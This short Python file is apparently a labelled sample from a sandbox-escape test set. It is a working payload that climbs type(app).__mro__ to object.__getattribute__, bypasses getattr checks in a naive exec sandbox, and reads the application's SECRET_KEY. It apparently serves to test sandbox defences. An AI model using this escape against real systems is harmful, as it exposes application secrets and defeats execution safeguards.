# ruff: noqa - a hostile script, kept as written
# threat: 3 reach interpreter internals
# technique: type(app).__mro__ and object.__getattribute__ to bypass getattr checks
# naive exec: escapes: type() and dunder attributes reach object and its slot wrappers
base = type(app).__mro__[-1]
getter = base.__getattribute__
result = "ESCAPED " + str(getter(app, "config")["SECRET_KEY"])
